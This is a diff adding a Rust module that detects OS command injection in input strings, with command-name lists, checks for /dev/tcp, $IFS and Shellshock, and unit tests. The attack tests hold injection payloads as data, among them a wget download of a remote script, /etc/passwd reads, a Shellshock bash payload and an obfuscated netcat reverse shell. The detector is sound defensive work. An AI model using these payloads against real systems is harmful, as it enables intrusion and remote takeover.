@@ -1,0 +1,241 @@
+//! OS command injection: a small shell tokenizer finds command positions
+//! (after `;`, `|`, `||`, `&&`, `&`, newlines, inside `` `...` `` and
+//! `$(...)`), reads the word there the way a shell would (quotes and
+//! backslashes removed, `$IFS` as a blank, `/bin/` stripped) and judges it
+//! against known commands and the look of their arguments.
+
+use crate::text::{Hits, Text};
+use crate::{Family, score};
+
+/// Commands that are never English words.
+const UNAMBIGUOUS: &[&[u8]] = &[
+    b"wget", b"curl", b"ncat", b"netcat", b"bash", b"zsh", b"ksh", b"tcsh", b"getent", b"nslookup",
+    b"ifconfig", b"ipconfig", b"netstat", b"chmod", b"chown", b"mkfifo", b"powershell", b"pwsh",
+    b"certutil", b"bitsadmin", b"wmic", b"systeminfo", b"tasklist", b"busybox", b"whoami", b"uname",
+    b"useradd", b"crontab", b"nohup", b"xterm", b"python3", b"python2", b"perl", b"socat",
+    b"telnet", b"cmd.exe", b"powershell.exe", b"msiexec", b"rundll32", b"regsvr32", b"mshta",
+    b"cscript", b"wscript", b"base64", b"xxd", b"sh", b"nc", b"id", b"ls",
+];
+
+/// Commands that are also words; they need shell-looking arguments.
+const AMBIGUOUS: &[&[u8]] = &[
+    b"cat", b"ps", b"rm", b"cp", b"mv", b"echo", b"set", b"type", b"more", b"find", b"sleep",
+    b"ping", b"dig", b"printf", b"awk", b"sed", b"rev", b"hostname", b"pwd", b"env", b"kill",
+    b"dir", b"del", b"net", b"reg", b"php", b"python", b"ruby", b"node", b"java", b"ssh", b"scp",
+    b"ftp", b"tftp", b"touch", b"head", b"tail", b"sort", b"grep", b"expr", b"time", b"exec",
+    b"eval", b"source", b"export", b"cd", b"cmd", b"start", b"call", b"copy", b"less", b"nl",
+    b"od", b"tac", b"host", b"whois", b"sudo", b"su", b"cut", b"xargs", b"tee", b"dd", b"tar",
+    b"zip", b"unzip", b"file", b"stat", b"who", b"w", b"last", b"finger", b"mail", b"lynx",
+    b"timeout", b"bg", b"fg", b"jobs", b"nmap", b"sort", b"uniq", b"wc", b"ipconfig",
+];
+
+pub(crate) fn check(t: &Text, hits: &mut Hits) {
+    let b = t.bytes();
+    shellshock(t, hits);
+    if let Some(p) = t.find("$ifs").or_else(|| t.find("${ifs}")) {
+        hits.add(Family::Rce, score::STRONG, "rce.ifs", p);
+    }
+    if let Some(p) = t.find("/dev/tcp/").or_else(|| t.find("/dev/udp/")) {
+        hits.add(Family::Rce, score::STRONG, "rce.dev-tcp", p);
+    }
+    if let Some(p) = t.find("$((") {
+        hits.add(Family::Rce, score::MEDIUM, "rce.arithmetic-expansion", p);
+    }
+    let mut seen = 0;
+    for (i, &c) in b.iter().enumerate() {
+        let kind = match c {
+            b';' | b'|' | b'&' | b'\n' | b'\r' => Sep::Plain,
+            b'`' => Sep::Subst,
+            b'(' if i > 0 && b[i - 1] == b'$' => Sep::Subst,
+            _ => continue,
+        };
+        seen += 1;
+        if seen > 2048 {
+            break;
+        }
+        command_at(b, i + 1, kind, hits, i);
+    }
+    // A command as the whole value: only with clearly shell-like arguments.
+    command_at(b, 0, Sep::Start, hits, 0);
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Sep {
+    Start,
+    Plain,
+    Subst,
+}
+
+fn shellshock(t: &Text, hits: &mut Hits) {
+    if let Some(p) = t.find("() {") {
+        let rest = &t.bytes()[p + 4..];
+        let rest = &rest[..rest.len().min(16)];
+        if rest.iter().any(|&c| c == b':' || c == b';') {
+            hits.add(Family::Rce, score::STRONG, "rce.shellshock", p);
+        }
+    }
+}
+
+/// Read the word at `i` as a shell would; returns it (lowercase, at most 32
+/// bytes) and the index after it.
+fn read_word(b: &[u8], mut i: usize) -> (Vec<u8>, usize) {
+    loop {
+        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'{' || b[i] == b'(') {
+            i += 1;
+        }
+        let rest = &b[i..];
+        if rest.starts_with(b"$ifs") {
+            i += 4;
+            if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(u8::is_ascii_digit) {
+                i += 2;
+            }
+        } else if rest.starts_with(b"${ifs}") {
+            i += 6;
+        } else {
+            break;
+        }
+    }
+    let mut w = Vec::new();
+    while i < b.len() {
+        let c = b[i];
+        if c.is_ascii_whitespace() || matches!(c, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b'+') {
+            break;
+        }
+        if c == b'$' && (b[i..].starts_with(b"$ifs") || b[i..].starts_with(b"${ifs}")) {
+            break;
+        }
+        if !matches!(c, b'\'' | b'"' | b'\\') && w.len() < 32 {
+            w.push(c);
+        }
+        i += 1;
+    }
+    (w, i)
+}
+
+fn command_at(b: &[u8], i: usize, sep: Sep, hits: &mut Hits, at: usize) {
+    let (word, end) = read_word(b, i);
+    if word.is_empty() {
+        return;
+    }
+    let had_path = word.contains(&b'/') || word.contains(&b'\\');
+    let name = match word.iter().rposition(|&c| c == b'/' || c == b'\\') {
+        Some(p) => &word[p + 1..],
+        None => &word[..],
+    };
+    let name = name.strip_suffix(b".exe").unwrap_or(name);
+    let unambiguous = UNAMBIGUOUS.contains(&name);
+    let ambiguous = !unambiguous && AMBIGUOUS.contains(&name);
+    if !unambiguous && !ambiguous {
+        return;
+    }
+    let bin_path = had_path && (word.starts_with(b"/bin/") || word.starts_with(b"/usr/") || word.starts_with(b"/sbin/"));
+    let args = shell_args(b, end);
+    let sc = match (sep, unambiguous, args) {
+        (Sep::Subst, _, _) => score::STRONG,
+        (_, _, _) if bin_path => score::STRONG,
+        (Sep::Plain, true, Args::Shellish | Args::None) => score::STRONG,
+        (Sep::Plain, true, Args::Words) if name.len() > 2 => score::MEDIUM,
+        (Sep::Plain, false, Args::Shellish) => score::MEDIUM + 1,
+        (Sep::Plain, false, Args::None) if name.len() >= 3 => score::WEAK,
+        (Sep::Start, true, Args::Shellish) => score::MEDIUM,
+        (Sep::Start, false, Args::Shellish) if name.len() >= 3 => score::WEAK,
+        _ => return,
+    };
+    hits.add(Family::Rce, sc, "rce.command", at);
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Args {
+    /// Nothing, or straight into another separator.
+    None,
+    /// Plain words.
+    Words,
+    /// Flags, paths, variables, redirections, URLs, addresses.
+    Shellish,
+}
+
+fn shell_args(b: &[u8], i: usize) -> Args {
+    let mut j = i;
+    while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
+        j += 1;
+    }
+    if b[i.min(b.len())..j].windows(4).any(|w| w == b"$ifs") || b[i.min(b.len())..].starts_with(b"$ifs") || b[i.min(b.len())..].starts_with(b"${ifs}") {
+        return Args::Shellish;
+    }
+    let Some(&c) = b.get(j) else {
+        return Args::None;
+    };
+    if matches!(c, b';' | b'|' | b'&' | b'`' | b'\n' | b')' | b'"' | b'\'') {
+        return Args::None;
+    }
+    if matches!(c, b'-' | b'/' | b'$' | b'~' | b'\\' | b'%' | b'>' | b'<' | b'.') {
+        return Args::Shellish;
+    }
+    let end = b[j..]
+        .iter()
+        .position(|c| c.is_ascii_whitespace())
+        .map_or(b.len(), |p| j + p);
+    let arg = &b[j..end];
+    let is_addr = arg.iter().filter(|&&c| c == b'.').count() >= 2 && arg.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':' | b'/'));
+    if is_addr || memchr::memmem::find(arg, b"://").is_some() {
+        return Args::Shellish;
+    }
+    Args::Words
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score_of(s: &str) -> u32 {
+        let lower = s.to_ascii_lowercase();
+        let t = Text { s, lower: &lower };
+        let mut h = Hits::default();
+        check(&t, &mut h);
+        h.best(Family::Rce)
+    }
+
+    #[test]
+    fn attacks() {
+        for a in [
+            "ax--exec=`id`--remote=origin",
+            "; cat /et'c/pa'ss'wd",
+            "cmd=127.0.0.1 && ls /etc",
+            ";wget http://some_host/sh311.sh",
+            "|getent hosts somehost.burpcollaborator.net.&",
+            "|getent+hosts+somehost.burpcollaborator.net.&",
+            ";getent$IFS$9hosts$IFS$9somehost.burpcollaborator.net;echo$IFS$9$((3482*7301));",
+            "| set /a 3482*7301",
+            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
+            "\";$(printf 'hsab/nib/e- 43211.0.0.721 cn'|rev)\"",
+            "`curl -L http://google.com`",
+            "x; id",
+            "a|whoami",
+        ] {
+            assert!(score_of(a) >= score::MEDIUM, "missed: {a}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for b in [
+            "echo in the mirror",
+            "curl and divergence",
+            "exec noun",
+            "bash away in the gym",
+            "zsh is the best!",
+            "java lang courses",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "The parameter 5 is&|.",
+            "The Senora found herself a heroine; more than that, she became aware",
+            "DEAR FINN,--I think it would do; copy should reach us second post",
+            "url=/?usr=subject;-",
+            "I went home; cat was hungry",
+            "Tom & Jerry",
+            "fish & chips; set menu",
+        ] {
+            assert!(score_of(b) < score::MEDIUM - 1, "false positive: {b}");
+        }
+    }
+}
